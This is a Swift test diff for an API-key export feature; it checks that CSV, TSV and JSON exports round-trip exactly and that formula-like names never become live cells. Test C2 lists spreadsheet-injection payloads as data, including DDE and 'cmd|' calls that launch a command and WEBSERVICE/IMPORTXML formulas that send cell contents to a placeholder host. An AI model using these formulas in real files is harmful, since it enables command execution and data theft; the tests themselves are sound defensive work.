@@ -8,7 +8,8 @@ import Testing
 struct ExportFormatTests {
   @Test("C1 csv reads back exactly in a second reader")
   func csvReadsBack() throws {
-    var names = HostileNames(seed: 11)
+    let seed = UInt64.random(in: 0 ... .max)
+    var names = HostileNames(seed: seed)
     let keys = (0..<100_000).map { ExportFixture.key($0, name: names.name()) }
     let fixture = try ExportFixture()
     _ = try fixture.export(keys, .csv, columns: [.name, .id, .permissions], csvRaw: true)
@@ -23,7 +24,8 @@ struct ExportFormatTests {
     let found = read.split(separator: "\n", omittingEmptySubsequences: false)
     try #require(found.count == keys.count)
     let wrong = zip(found, keys).filter { $0 != ExportFixture.hex($1.name) }
-    #expect(wrong.isEmpty, "\(wrong.count) rows differ, the first has \(wrong.first?.0 ?? "")")
+    #expect(wrong.isEmpty, "seed \(seed): \(wrong.count) rows differ, the first has \(wrong.first?.0 ?? "")")
+    print("figure C1: \(keys.count) random rows read back exactly by Python's csv (seed \(seed))")
   }
 
   @Test(
@@ -37,6 +39,41 @@ struct ExportFormatTests {
     var raw: [UInt8] = []
     CSVText.append(name, raw: true, to: &raw)
     #expect(raw.starts(with: name.utf8) || raw.dropFirst().starts(with: name.utf8))
+  }
+
+  @Test("C2 a corpus of formulas: none is one in a second reader, and no two become the same cell")
+  func formulaCorpus() throws {
+    let starts = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\u{FF1D}", "\u{FF0B}", "\u{FF0D}", "\u{FF20}"]
+    let bodies = [
+      "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x\",\"y\")", "SUM(1,2)", "WEBSERVICE(\"http://x/\"&A1)",
+      "\u{301}1", "",
+      "\"=1", ",=1", "\r\n=1", "IMPORTXML(CONCAT(\"http://x\"),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")",
+    ]
+    var names = starts.flatMap { start in bodies.map { start + $0 } }
+    names += names.map { "'" + $0 } + names.map { " " + $0 } + names.map { "\u{200B}" + $0 } + names.map { "x" + $0 }
+    let fixture = try ExportFixture()
+    _ = try fixture.export(names.enumerated().map { ExportFixture.key($0, name: $1) }, .csv, columns: [.name, .name])
+    let read = try fixture.python(
+      """
+      import csv, sys
+      rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8'), strict=True))[1:]
+      print(len(rows), sum(row[0] != row[1] for row in rows), len(set(row[0] for row in rows)))
+      print(sum(cell.startswith(tuple('=+-@\\t\\r\\n\\0\\uFF1D\\uFF0B\\uFF0D\\uFF20')) for row in rows for cell in row))
+      """)
+    #expect(read == "\(names.count) 0 \(names.count)\n0\n")
+    print("figure C2: 0 formula cells and 0 collisions in \(names.count) names made to be formulas")
+  }
+
+  @Test(
+    "Text longer than a screen's field is whole in files that programs read",
+    arguments: [ExportFormat.csv, .tsv, .json])
+  func longFields(_ format: ExportFormat) throws {
+    let name = String(repeating: "n\u{E9}", count: 2000)
+    let permissions = (0..<300).map { "resource\($0).\u{E9}" }
+    let key = APIKey(id: .opaque("a"), name: name, restricted: true, permissions: PermissionSet(permissions))
+    let text = String(decoding: try ExportFixture().export([key], format), as: UTF8.self)
+    #expect(text.contains(name))
+    #expect(permissions.allSatisfy { text.contains($0) })
   }
 
   @Test("C2 a name that is no formula stays as it is")
@@ -71,17 +108,19 @@ struct ExportFormatTests {
 
   @Test("A3 one key is one line", arguments: [ExportFormat.plain, .tsv, .ndjson, .table, .markdown])
   func oneLineAKey(_ format: ExportFormat) throws {
-    var names = HostileNames(seed: 5)
+    let seed = UInt64.random(in: 0 ... .max)
+    var names = HostileNames(seed: seed)
     let keys = (0..<2000).map { ExportFixture.key($0, name: names.name()) }
     let bytes = try ExportFixture().export(keys, format)
     let head = [ExportFormat.tsv: 1, .table: 1, .markdown: 2][format] ?? 0
-    #expect(bytes.filter { $0 == 0x0A }.count == keys.count + head)
+    #expect(bytes.filter { $0 == 0x0A }.count == keys.count + head, "seed \(seed)")
     #expect(bytes.last == 0x0A)
   }
 
   @Test("A3 one key is one row of csv, and a name adds no cell")
   func csvRows() throws {
-    var names = HostileNames(seed: 6)
+    let seed = UInt64.random(in: 0 ... .max)
+    var names = HostileNames(seed: seed)
     let keys = (0..<2000).map { ExportFixture.key($0, name: names.name()) }
     let fixture = try ExportFixture()
     _ = try fixture.export(keys, .csv)
@@ -91,12 +130,13 @@ struct ExportFormatTests {
       rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8')))
       print(len(rows), set(map(len, rows)))
       """)
-    #expect(counts == "2001 {7}\n")
+    #expect(counts == "2001 {7}\n", "seed \(seed)")
   }
 
   @Test("A6 json is lossless in a second parser")
   func jsonReadsBack() throws {
-    var names = HostileNames(seed: 7)
+    let seed = UInt64.random(in: 0 ... .max)
+    var names = HostileNames(seed: seed)
     let keys = (0..<20_000).map { ExportFixture.key($0, name: names.name()) }
     let fixture = try ExportFixture()
     _ = try fixture.export(keys, .json)
@@ -114,7 +154,8 @@ struct ExportFormatTests {
       """)
     let found = read.split(separator: "\n", omittingEmptySubsequences: false)
     try #require(found.count == keys.count)
-    #expect(zip(found, keys).allSatisfy { $0 == ExportFixture.hex($1.name) })
+    #expect(zip(found, keys).allSatisfy { $0 == ExportFixture.hex($1.name) }, "seed \(seed)")
+    print("figure A6: \(keys.count) random names equal after Python's json, and the digest right (seed \(seed))")
   }
 
   @Test("A6 fields that were not reported stay so")
